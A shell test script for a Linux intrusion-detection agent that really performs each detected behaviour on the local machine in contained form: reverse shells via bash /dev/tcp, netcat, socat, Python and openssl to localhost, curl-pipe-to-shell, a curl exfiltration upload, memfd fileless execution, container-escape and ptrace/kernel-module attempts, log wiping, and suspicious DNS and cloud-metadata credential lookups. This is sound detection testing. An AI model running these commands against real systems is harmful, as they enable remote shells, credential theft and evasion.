#!/bin/sh
# run.sh - issue 5, proof 2: each behaviour the default policy detects is
# performed for real on the live kernel while a vigild built from this
# tree runs the audit, proc-connector and fanotify monitors (and, in a network
# namespace made here, the DNS monitor against a local unbound), then
# check_signals.py asserts that each expected rule fired with the process
# context of the process that did it (pid, executable, argv, ancestors
# leading back to this script, user name).
#
# Contained: scratch files under a private temp dir, a throwaway user and
# group, a fake "container" (a cgroup named /docker/<64 hex> in the pids
# hierarchy plus unshare --mount --pid --fork --mount-proc), a network
# namespace with its own resolver; kernel calls that would change the
# host are made in refused forms (live_kact.c, a read-only mount over a
# read-write one, an open for append that writes nothing); in the
# directories the file rules name, new uniquely named files with a
# suffix no reader of those directories loads (fim_behaviours.sh); the
# agent-health rules from a second vigild starved on purpose
# (agent_faults.sh).  Everything is undone on every exit path (trap).
# Exit 77 when not root or vigild is not built.
#
# Environment: VIGIL_BUILDDIR (default: cwd), VIGIL_SRCDIR (default: from
# this script's path), LIVE_KEEP=1 keeps the temp dir for inspection.
# make distcheck repeats the suite after the main pass (.ci/run):
# VIGIL_SKIP_LIVE skips the live-kernel suites there.
if [ -n "${VIGIL_SKIP_LIVE:-}" ]; then
	echo "SKIP: live-kernel suite already run in the main pass (VIGIL_SKIP_LIVE)"
	exit 77
fi
set -u
# execvp's failed tries along a long PATH are audited as exec events of
# their own (e.g. /root/.cargo/bin/bash): keep the search path short so
# each behaviour is one exec.
PATH=/usr/sbin:/usr/bin:/sbin:/bin
export PATH
here=$(cd "$(dirname "$0")" && pwd)
: "${VIGIL_BUILDDIR:=$(pwd)}"
: "${VIGIL_SRCDIR:=$here/../../../..}"
VIGILD=$VIGIL_BUILDDIR/vigild
VIGILCTL=$VIGIL_BUILDDIR/vigilctl
KACT=$VIGIL_BUILDDIR/tests/integration/policy/live/live_kact
PY=/usr/bin/python3
# LeakSanitizer's tracer PTRACE_ATTACHes to every sanitized program at
# exit (vigilctl, live_kact): that is noise for the ptrace rules.
ASAN_OPTIONS=${ASAN_OPTIONS:+$ASAN_OPTIONS:}detect_leaks=0
export ASAN_OPTIONS

skip() { echo "SKIP: $*"; exit 77; }
[ "$(id -u)" = 0 ] || skip "needs root"
[ -x "$VIGILD" ] && [ -x "$VIGILCTL" ] || skip "vigild/vigilctl not built"
[ -x "$KACT" ] || skip "$KACT not built"
[ -x "$PY" ] || skip "no /usr/bin/python3"
command -v auditctl >/dev/null || skip "auditctl not installed"

# Not under /tmp: the suite's own helpers must not look like drops.
T=$(mktemp -d /run/vigil-live.XXXXXX)
W=$(mktemp -d /tmp/vigil-live-ww.XXXXXX)	# world-writable drops
SHM=$(mktemp -d /dev/shm/vigil-live.XXXXXX)
NS=vigil-live-$$
LUSER=vglive$$
LGROUP=vglivegrp$$
CID=$(head -c 32 /dev/urandom | od -An -tx1 | tr -d ' \n')
CG=/sys/fs/cgroup/pids/docker/$CID
CGP=/sys/fs/cgroup/pids/docker
AKEY=vigil_live_$$
PIDS=
VPID=
FIM_RESTORE=:
AGENT_RESTORE=:
DPID=
# directories the file rules name that this host lacks: made before
# vigild starts (so its marks cover them), removed at exit
MADE_DIRS=

cleanup() {
	for p in $PIDS; do kill -9 "$p" 2>/dev/null; done
	# the second vigild of agent_faults.sh may be stopped (SIGSTOP)
	[ -n "${AFPID:-}" ] && { kill -CONT "$AFPID"; kill -TERM "$AFPID"; } 2>/dev/null
	[ -n "$VPID" ] && kill -TERM "$VPID" 2>/dev/null
	[ -n "$DPID" ] && kill -TERM "$DPID" 2>/dev/null
	wait 2>/dev/null
	$FIM_RESTORE
	$AGENT_RESTORE
	for d in $MADE_DIRS; do rmdir "$d" 2>/dev/null; done
	# processes of the throwaway user (an ssh session winding down)
	# would make userdel refuse: end them by pid first
	for u in $(ps -o pid= -u "$LUSER" 2>/dev/null); do kill -9 "$u"; done
	id "$LUSER" >/dev/null 2>&1 && userdel -f -r "$LUSER" 2>/dev/null
	getent group "$LGROUP" >/dev/null && groupdel "$LGROUP"
	[ -d "$CG" ] && rmdir "$CG"
	[ -f "$T/cgp.made" ] && rmdir "$CGP" 2>/dev/null
	ip netns del "$NS" 2>/dev/null
	rm -rf "/etc/netns/$NS" "$W" "$SHM" /var/log/vigil-live-$$.log
	if [ "${LIVE_KEEP:-0}" = 1 ]; then echo "kept $T"; else rm -rf "$T"; fi
}
trap cleanup EXIT
trap 'exit 1' INT TERM HUP

EXP=$T/expect.tsv
: >"$EXP"
# expect RULE BEHAVIOUR PID EXE ARGV-TOKEN USER: the signal check reads
# one line per expectation; "-" means "do not check this part".
expect() {
	printf '%s\t%s\t%s\t%s\t%s\t%s\t%s\n' "$1" "$2" "$3" "$4" "$5" "$6" \
		"${7:-}" >>"$EXP"
}
# skipped RULE BEHAVIOUR WHY
skipped() { printf '%s\t%s\tSKIP\t%s\t-\t-\n' "$1" "$2" "$3" >>"$EXP"; }

# make_dir DIR: makes DIR and its missing parents, deepest first in
# MADE_DIRS so that cleanup removes them in that order.
make_dir() {
	[ -d "$1" ] && return 0
	make_dir "$(dirname "$1")" || return 1
	mkdir -m 755 "$1" || return 1
	MADE_DIRS="$1 $MADE_DIRS"
}

# ---- the agent ------------------------------------------------------

. "$here/agent.sh"
# fim on the trees the file rules name, the throwaway user's home and
# the suite's own scratch dirs (setuid/capability/self-delete tests)
# (inode marks: with filesystem marks over these trees the audit source
# of the same vigild read nothing in our runs; see the report)
# the file rules' directories this host lacks (removed at exit)
for d in /etc/vigil /etc/udev/rules.d /usr/local/share/vigil /srv; do
	make_dir "$d" || echo "note: cannot make $d"
done
FIM_MARKS=inode agent_start "$T" "$AKEY" "/etc, /usr/bin, /usr/local/share, /srv, /home, /var/log, $T, $W"

# The DNS monitor in the namespace: a second vigild, DNS only (audit
# and the proc connector belong to the initial network namespace).
have_dns=0
if command -v unbound >/dev/null && command -v dig >/dev/null &&
	ip netns add "$NS" 2>/dev/null; then
	ip netns exec "$NS" ip link set lo up
	mkdir -p "/etc/netns/$NS" "$T/dns/run" "$T/dns/state"
	printf 'nameserver 127.0.0.1\noptions timeout:1 attempts:1\n' \
		>"/etc/netns/$NS/resolv.conf"
	cat >"$T/dns/unbound.conf" <<EOC
server:
	interface: 127.0.0.1
	port: 53
	do-daemonize: no
	use-syslog: no
	logfile: "$T/dns/unbound.log"
	pidfile: "$T/dns/unbound.pid"
	directory: "$T/dns"
	chroot: ""
	username: ""
	access-control: 127.0.0.0/8 allow
	num-threads: 1
	local-zone: "." static
EOC
	ip netns exec "$NS" unbound -c "$T/dns/unbound.conf" \
		>"$T/dns/unbound.out" 2>&1 &
	PIDS="$PIDS $!"
	cat >"$T/dns/vigil.yaml" <<EOC
agent:
  pid_file: $T/dns/run/vigild.pid
  control_socket: $T/dns/run/vigil.sock
  state_dir: $T/dns/state
  plugin_dir: $VIGIL_BUILDDIR/plugins/.libs
audit: {enabled: false}
proc: {enabled: false}
dns: {queue: 53, firewall: auto}
plugins:
  - name: rules
    config: {paths: [$VIGIL_SRCDIR/rules/default]}
  - name: file_sink
    config: {path: $T/signals.json, what: signals, format: json}
EOC
	ip netns exec "$NS" "$VIGILD" -f -c "$T/dns/vigil.yaml" \
		>"$T/dns/vigild.out" 2>"$T/dns/vigild.err" &
	DPID=$!
	have_dns=1
fi

agent_wait "$T" || { echo "FAIL: vigild sources not running"; exit 1; }
if [ $have_dns = 1 ]; then
	for i in $(seq 100); do
		source_running "$T/dns/run/vigil.sock" dns && break
		sleep 0.1
	done
	source_running "$T/dns/run/vigil.sock" dns || {
		sed 's/^/  dns vigild: /' "$T/dns/vigild.err"; have_dns=0; }
fi
have_fim=0
source_running "$T/run/vigil.sock" fanotify && have_fim=1
[ $have_fim = 1 ] || echo "note: no fim source running: the file-integrity behaviours are skipped"
"$VIGILCTL" -s "$T/run/vigil.sock" status >"$T/status.txt" 2>&1

# run CMD...: runs CMD as a child of this shell (not of a command
# substitution, whose short life would cut the ancestry) and sets p to
# its pid: the pid that execs CMD, i.e. the process the rules see.
run() { "$@" >>"$T/behaviours.log" 2>&1 & p=$!; wait $p; }
# listener PORT [CERT KEY]: a one-shot TCP listener on 127.0.0.1 (TLS
# with CERT and KEY) that sends "exit" and closes; runs in the background.
listener() {
	"$PY" -c '
import socket, ssl, sys
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", int(sys.argv[1]))); s.listen(1); s.settimeout(10)
c, _ = s.accept()
if len(sys.argv) > 3:
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(sys.argv[2], sys.argv[3])
    c.settimeout(5)
    c = ctx.wrap_socket(c, server_side=True)
c.sendall(b"exit\n"); c.settimeout(2)
try:
    c.recv(4096)
except OSError:
    pass
c.close()
' "$@" &
	PIDS="$PIDS $!"
	sleep 0.3
}
PORT=$((20000 + $$ % 20000))
ME=$(id -un)

# ---- process execution ----------------------------------------------
listener $PORT
run timeout 5 bash -c "bash -i >& /dev/tcp/127.0.0.1/$PORT 0>&1"
expect reverse_shell_dev_tcp bash-dev-tcp "~$p" /usr/bin/bash /dev/tcp/ "$ME"

if command -v nc.traditional >/dev/null; then
	PORT=$((PORT + 1)); listener $PORT
	run timeout 5 nc.traditional -e /bin/true 127.0.0.1 $PORT
	expect netcat_remote_code_execution nc-e "~$p" "*/nc.traditional" -e "$ME"
	run timeout 3 nc.traditional -z 127.0.0.1 $((PORT + 100))
	expect network_scanner_executed nc-z "~$p" "*/nc.traditional" -z "$ME"
else
	skipped netcat_remote_code_execution nc-e "netcat-traditional not installed"
fi
if command -v socat >/dev/null; then
	PORT=$((PORT + 1)); listener $PORT
	run timeout 5 socat TCP:127.0.0.1:$PORT EXEC:/bin/true
	expect socat_shell socat-exec "~$p" /usr/bin/socat EXEC:/bin/true "$ME"
else
	skipped socat_shell socat-exec "socat not installed"
fi
PORT=$((PORT + 1)); listener $PORT
run timeout 5 "$PY" -c "import socket,os,subprocess;s=socket.socket();s.connect(('127.0.0.1',$PORT));os.dup2(s.fileno(),0);subprocess.call(['/bin/true'])"
expect scripting_language_reverse_shell python-socket "~$p" "*/python3*" socket "$ME"

cp /bin/true "$W/dropper"
run "$W/dropper"
expect exec_from_world_writable_dir tmp-exec $p "$W/dropper" "$W/dropper" "$ME"
cp /bin/true "$SHM/dropper"
run "$SHM/dropper"
expect exec_from_dev_shm shm-exec $p "$SHM/dropper" "$SHM/dropper" "$ME"
cp /bin/true "$W/.hidden"
run "$W/.hidden"
expect exec_hidden_file hidden-exec $p "$W/.hidden" "$W/.hidden" "$ME"

run "$PY" -c '
import os
fd = os.memfd_create("payload", 0)
os.write(fd, open("/bin/true", "rb").read())
os.execve(fd, ["payload", "memfd-run"], {})
'
expect fileless_execution_memfd memfd $p "/memfd:*" memfd-run "$ME"

run sh -c 'echo dHJ1ZQo= | base64 -d | sh'
expect decoded_payload_piped_to_shell base64-sh $p "*/sh" "base64 -d" "$ME"
run "$PY" -c 'import base64; exec(base64.b64decode("aW1wb3J0IG9z"))'
expect python_exec_base64_payload python-b64 $p "*/python3*" b64decode "$ME"

mkdir -p "$T/www" && echo 'true' >"$T/www/x.sh"
PORT=$((PORT + 1))
(cd "$T/www" && exec "$PY" -m http.server --bind 127.0.0.1 $PORT) \
	>"$T/http.log" 2>&1 &
PIDS="$PIDS $!"
for i in $(seq 50); do curl -s -o /dev/null "http://127.0.0.1:$PORT/" && break; sleep 0.1; done
run sh -c "curl -s http://127.0.0.1:$PORT/x.sh | sh"
expect download_piped_to_shell curl-sh $p "*/sh" "| sh" "$ME"
# an upload to the same local server (it answers PUT with 501)
echo 'vigil live test' >"$T/exfil.txt"
run curl -s -o /dev/null -T "$T/exfil.txt" "http://127.0.0.1:$PORT/exfil.txt"
expect data_exfiltration_tool curl-T $p /usr/bin/curl -T "$ME"

# services that start a shell: copies of sh named after the service
# (the rules know a program by the name of its executable); each runs a
# child shell, as a web shell, a database's COPY ... FROM PROGRAM or a
# Java deserialisation gadget would.
for svc in nginx:shell_from_web_server mysqld:shell_from_database \
	java:shell_from_java_application; do
	cp /bin/sh "$T/${svc%%:*}"
	run "$T/${svc%%:*}" -c "/bin/sh -c 'echo from-${svc%%:*}'; true"
	expect "${svc#*:}" "${svc%%:*}-sh" "~$p" "*sh" "from-${svc%%:*}" "$ME"
done
cp /bin/sh "$T/gitlab-runner"
run "$T/gitlab-runner" -c '/bin/sh -i </dev/null; true'
expect interactive_shell_from_ci_runner gitlab-runner-sh-i "~$p" "*sh" -i "$ME"

# a reverse shell over TLS: sh -i fed by openssl s_client through a
# fifo, to a local TLS listener that sends "exit"
PORT=$((PORT + 1))
if openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 \
	-nodes -subj /CN=vigil-live -days 1 -keyout "$T/tls.key" \
	-out "$T/tls.crt" >>"$T/behaviours.log" 2>&1; then
	listener $PORT "$T/tls.crt" "$T/tls.key"
	run timeout 10 sh -c "mkfifo $T/rs.fifo; /bin/sh -i <$T/rs.fifo 2>&1 | openssl s_client -quiet -connect 127.0.0.1:$PORT >$T/rs.fifo; rm -f $T/rs.fifo"
	expect openssl_reverse_shell openssl-s_client "~$p" /usr/bin/openssl s_client "$ME"
else
	skipped openssl_reverse_shell openssl-s_client "openssl req could not make a certificate"
fi

# iptables -F in a network namespace of its own (empty, gone after)
if command -v iptables >/dev/null; then
	run unshare --net iptables -F
	expect security_control_disabled iptables-F $p "*tables*" -F "$ME"
else
	skipped security_control_disabled iptables-F "iptables not installed"
fi

run bash -c 'exec -a "[kworker/0:7]" sleep 0'
expect kernel_thread_name_masquerade kworker-argv0 $p /usr/bin/sleep "[kworker/0:7]" "$ME"
run find "$T" -name id_rsa
expect credential_file_search find-id_rsa $p /usr/bin/find id_rsa "$ME"
run timeout 3 ssh -o BatchMode=yes -o ConnectTimeout=1 -D 127.0.0.1:1 -p 1 127.0.0.1 true
expect ssh_reverse_or_socks_tunnel ssh-D "~$p" /usr/bin/ssh -D "$ME"
for tool in chisel:tunnelling_tool_executed xmrig:cryptominer_executed; do
	cp /bin/true "$T/${tool%%:*}"
	run "$T/${tool%%:*}"
	expect "${tool#*:}" "${tool%%:*}" $p "$T/${tool%%:*}" "${tool%%:*}" "$ME"
done
if command -v tcpdump >/dev/null; then
	run tcpdump --version
	expect network_sniffer_executed tcpdump $p /usr/bin/tcpdump --version "$ME"
fi
echo x >/var/log/vigil-live-$$.log
run truncate -s 0 /var/log/vigil-live-$$.log
expect log_wiping_command truncate-log $p /usr/bin/truncate /var/log/ "$ME"
run killall -q -s 0 vigil
expect vigil_stopped_by_command killall-vigil $p /usr/bin/killall vigil "$ME"

# ---- the container: a /docker/<id> cgroup and fresh mount+pid ns -----
# vigil decides "in a container" from the cgroup path alone
# (process.container.id); an unshare without a cgroup is not one.  The
# process joins the cgroup after its fork, as runc's init does: the
# process table re-reads the cgroup at exec, and a child gone before its
# exec is read takes its parent's container.
if [ -d /sys/fs/cgroup/pids ] && { [ -d "$CGP" ] || { mkdir "$CGP" && : >"$T/cgp.made"; }; } &&
	mkdir "$CG" 2>/dev/null; then
	# $1: a scratch mount point, $2: live_kact, $3: the suite's dir,
	# $4 $5: the host's root device and its fs type.  The mounts are
	# in the private mount namespace; the host's root device is
	# mounted read-only over a read-write mount, which the kernel
	# refuses (EBUSY) after the attempt is audited.
	cat >"$T/inside.sh" <<'EOC'
id; whoami; uname -a; hostname
apt-get -s install sl >/dev/null 2>&1
cc --version >/dev/null
mount -t tmpfs vigil-live "$1"; umount "$1"
mount -t cgroup2 vigil-live "$1" && umount "$1"
: >>/sys/fs/cgroup/pids/release_agent
[ -n "$4" ] && { mount -t "$5" -o ro "$4" "$1" && umount "$1"; }
unshare --user true
"$3/docker" ps
"$2" module-load "$3/cfake.ko"
"$2" setns
# an interactive shell lives for a while (a kubectl exec -it session)
printf 'sleep 0.3\n' | /bin/sh -i
EOC
	mkdir -p "$T/ctmp"
	cp /bin/true "$T/docker"
	printf 'not a module' >"$T/cfake.ko"
	rootdev=$(findmnt -no SOURCE / 2>/dev/null)
	rootfs=$(findmnt -no FSTYPE / 2>/dev/null)
	case "$rootdev:$rootfs" in
	/dev/*:ext[234]|/dev/*:xfs|/dev/*:btrfs) ;;
	*) rootdev=; rootfs= ;;
	esac
	run sh -c "echo \$\$ >$CG/cgroup.procs && exec unshare --mount --pid --fork --mount-proc sh $T/inside.sh $T/ctmp $KACT $T '$rootdev' '$rootfs'"
	# the processes inside run under other pids: check the container
	# id and the tree, not the pid.
	for r in discovery_commands_in_container package_manager_in_container \
		compiler_in_container unshare_in_container \
		interactive_shell_in_container; do
		expect $r container "~$p" - - "$ME" "container=$CID"
	done
	expect cgroup_or_debugfs_mounted_in_container mount-cgroup2 "~$p" \
		/usr/bin/mount cgroup2 "$ME" "container=$CID"
	if [ -n "$rootdev" ]; then
		expect host_filesystem_mounted_in_container mount-rootdev "~$p" \
			/usr/bin/mount "$rootdev" "$ME" "container=$CID"
	else
		skipped host_filesystem_mounted_in_container mount-rootdev \
			"the root filesystem is not a block device with ext4, xfs or btrfs"
	fi
	expect container_client_in_container docker "~$p" "$T/docker" ps \
		"$ME" "container=$CID"
	expect kernel_module_loaded_from_container module-load "~$p" "$KACT" \
		"$T/cfake.ko" "$ME" "container=$CID"
	expect setns_in_container setns "~$p" "$KACT" setns "$ME" \
		"container=$CID"
	expect cgroup_release_agent_written release_agent "~$p" "*sh" - \
		"$ME" "container=$CID"
else
	for r in discovery_commands_in_container package_manager_in_container \
		cgroup_or_debugfs_mounted_in_container \
		host_filesystem_mounted_in_container \
		container_client_in_container kernel_module_loaded_from_container \
		setns_in_container cgroup_release_agent_written; do
		skipped $r container "no cgroup v1 pids hierarchy to make a /docker/<id> cgroup"
	done
fi

# ---- kernel activity ------------------------------------------------
sleep 30 & sl=$!; PIDS="$PIDS $sl"
run "$KACT" ptrace-attach $sl
expect ptrace_attach_to_process ptrace-attach $p "$KACT" ptrace-attach "$ME"
# traceme first: the rule speaks once per executable per 300 s, and
# the ptrace-poke child does PTRACE_TRACEME too
run "$KACT" traceme
expect ptrace_traceme_anti_debugging traceme "~$p" "$KACT" traceme "$ME"
run "$KACT" ptrace-poke
expect ptrace_code_injection ptrace-poke $p "$KACT" ptrace-poke "$ME"
run "$KACT" vm-writev
expect process_memory_written_by_another_process vm-writev $p "$KACT" vm-writev "$ME"
printf 'not a module' >"$T/fake.ko"
run "$KACT" module-load "$T/fake.ko"
expect kernel_module_loaded_directly module-load $p "$KACT" module-load "$ME"
cp "$T/fake.ko" "$W/fake.ko"
run "$KACT" module-load "$W/fake.ko"
expect kernel_module_loaded_from_temp_dir module-load-tmp $p "$KACT" "$W/fake.ko" "$ME"
run "$KACT" module-unload
expect kernel_module_unloaded module-unload $p "$KACT" module-unload "$ME"
run "$KACT" bpf
expect bpf_program_loaded bpf $p "$KACT" bpf "$ME"
cp "$KACT" "$W/kact"
run "$W/kact" bpf
expect bpf_program_loaded_from_container_or_temp bpf-tmp $p "$W/kact" bpf "$ME"
run "$KACT" kexec
expect kexec_kernel_load kexec $p "$KACT" kexec "$ME"
echo x >"$T/handle-me"
run "$KACT" handle "$T/handle-me"
expect open_by_handle_at_called open-by-handle $p "$KACT" handle "$ME"
run nsenter -t 1 -m true
expect nsenter_host_namespaces nsenter-t1 $p /usr/bin/nsenter "-t" "$ME"
run unshare --mount --fork sh -c "mount --make-rprivate / && mount -t tmpfs vigil-live /proc/$sl && umount /proc/$sl"
expect mount_over_proc_pid mount-proc-pid "~$p" /usr/bin/mount "/proc/$sl" "$ME"
# chroot(8) itself is on the rule's list of expected callers: a program
# calling chroot(2) directly is what it is after
run "$KACT" chroot
expect unexpected_chroot chroot $p "$KACT" chroot "$ME"
run "$KACT" pivot-root
expect unexpected_pivot_root pivot-root $p "$KACT" pivot-root "$ME"
cp /bin/true "$T/suid"
run groupadd "$LGROUP"
expect user_account_created groupadd $p /usr/sbin/groupadd "$LGROUP" "$ME"
run useradd -m -s /bin/sh "$LUSER"
expect user_account_created useradd $p /usr/sbin/useradd "$LUSER" "$ME"
run usermod -aG sudo "$LUSER"
expect user_added_to_privileged_group usermod-sudo $p /usr/sbin/usermod sudo "$ME"
# a setuid-root copy run by the throwaway user
chmod 4755 "$T/suid"; chmod 755 "$T"
run runuser -u "$LUSER" -- "$T/suid"
expect setuid_root_execution_outside_sudo suid-by-user "~$p" "$T/suid" "$T/suid" "$LUSER"
# a logged-in user's process (auid 1000+) becoming root
uid=$(id -u "$LUSER")
run sh -c "echo $uid >/proc/self/loginuid && exec $KACT setuid0"
expect setuid_root_by_logged_in_user setuid0-auid $p "$KACT" setuid0 "$ME"

# ---- agent health ---------------------------------------------------
cp /bin/sleep "$T/vigild"; cp /bin/sleep "$T/auditd"
for fake in vigild:vigil_process_killed auditd:auditd_killed; do
	"$T/${fake%%:*}" 30 & f=$!; PIDS="$PIDS $f"; sleep 0.2
	run kill -TERM $f
	expect "${fake#*:}" "kill-${fake%%:*}" "~$p" - - "$ME"
done
# only this vigild's rules (its own key): other agents and tests keep
# theirs; vigild must notice and put them back
run auditctl -D -k "$AKEY"
expect auditd_disabled_or_rules_deleted auditctl-D $p /usr/sbin/auditctl -D "$ME"
expect agent_audit_rules_flushed rules-flushed "$VPID" "$VIGILD" "$T/vigil.yaml" "$ME"
sleep 0.5
auditctl -l | grep -q "key=$AKEY" || { echo "FAIL: vigild did not re-install its audit rules"; exit 1; }

# ---- DNS, in the namespace ------------------------------------------
dns() { run ip netns exec "$NS" dig +time=1 +tries=1 "$@"; }
if [ $have_dns = 1 ]; then
	# dig is a DNS tool the rule allows: a TXT query from python
	run ip netns exec "$NS" "$PY" -c '
import socket, struct
q = struct.pack(">HHHHHH", 0x1234, 0x100, 1, 0, 0, 0)
q += b"".join(bytes([len(l)]) + l for l in b"txt.vigil-live.example".split(b".")) + b"\0"
q += struct.pack(">HH", 16, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
s.sendto(q, ("127.0.0.1", 53))
try:
    s.recv(512)
except OSError:
    pass
'
	expect dns_txt_query_unexpected_process python-txt - - - -
	run ip netns exec "$NS" "$PY" -c 'import socket
try: socket.getaddrinfo("pool.minexmr.com", 443)
except OSError: pass'
	expect dns_mining_pool_lookup mining-pool - - - -
	dns pastebin.com A; expect dns_paste_site_lookup paste - - - -
	dns abc.ngrok-free.app A; expect dns_tunnel_service_lookup ngrok - - - -
	dns api.ipify.org A; expect dns_ip_lookup_service ipify - - - -
	dns x.duckdns.org A; expect dns_dynamic_dns_domain duckdns - - - -
	dns AXFR vigil-live.example; expect dns_zone_transfer_attempt axfr - - - -
	dns abcdefghijklmnopqrstuvwxyz0123456789abcdefghijklmnopqrst.exfil.example A
	expect dns_long_label long-label - - - -
	dns mzxw6ytboi2tcmrtgq3tmnzygazdgnbv.mzxw6ytboi2tcmrtgq3tmnzygazdgnbv.mzxw6ytboi2tcmrtgq3tmnzygazdgnbv.t.example A
	expect dns_deeply_encoded_subdomain encoded - - - -
	dns abc.onion A; expect dns_onion_or_tor_gateway onion - - - -
	# four 47-character labels: a 200-character name
	long=$(printf 'a%.0s' $(seq 47))
	dns "$long.$long.$long.$long.vigil-live.example" A
	expect dns_long_query_name long-name "~$p" "*/dig" "$long" "$ME"
	# a resolver query from a process whose argv[0] says kworker
	run ip netns exec "$NS" bash -c 'exec -a "[kworker/1:3]" dig +time=1 +tries=1 kthread.vigil-live.example A'
	expect dns_query_from_kernel_thread_name kworker-argv0 "~$p" "*/dig" kthread.vigil-live.example "$ME"
	dns webhook.site A; expect dns_chat_or_webhook_c2_service webhook - - - -
	cp "$(command -v dig)" "$W/dig"
	run ip netns exec "$NS" "$W/dig" +time=1 +tries=1 www.vigil-live.example A
	expect dns_query_from_world_writable_dir dig-from-tmp - - - -
	run ip netns exec "$NS" curl -s --max-time 2 http://169.254.169.254/latest/meta-data/iam/security-credentials/
	expect cloud_metadata_credentials_request imds "~$p" /usr/bin/curl security-credentials "$ME"
else
	for r in dns_mining_pool_lookup dns_long_query_name \
		dns_query_from_kernel_thread_name; do
		skipped $r dns "no network namespace with unbound and a DNS monitor"
	done
fi

# ---- file integrity -------------------------------------------------
if [ $have_fim = 0 ]; then
	for r in account_database_modified shadow_file_modified sudoers_modified \
		ld_preload_file_modified ssh_authorized_keys_modified \
		cron_job_modified systemd_unit_modified log_file_truncated \
		shell_history_linked_to_dev_null executable_deleted_itself \
		setuid_or_setgid_bit_added file_capabilities_set \
		ld_so_conf_modified sshd_config_modified udev_rules_modified \
		kernel_module_files_modified system_shell_profile_modified \
		rc_script_modified audit_configuration_modified \
		ca_certificates_modified vigil_config_modified \
		vigil_service_unit_modified vigil_binary_or_policy_modified \
		nsswitch_modified critical_log_deleted web_shell_dropped; do
		skipped $r fim "vigilctl status shows no fanotify source"
	done
else
	. "$here/fim_behaviours.sh"
fi

# ---- agent health: a second vigild, starved ------------------------
. "$here/agent_faults.sh"

sleep 3	# end-of-event timeout (2s) and the sink
kill -TERM "$VPID"; wait "$VPID"; VPID=
[ -n "$DPID" ] && { kill -TERM "$DPID"; wait "$DPID"; DPID=; }
expect agent_started start - - - -
expect agent_stopping stop - - - -
"$PY" "$here/check_signals.py" "$T/signals.json" "$EXP" $$ "$CID" \
	"$AGENT_SIGNALS"
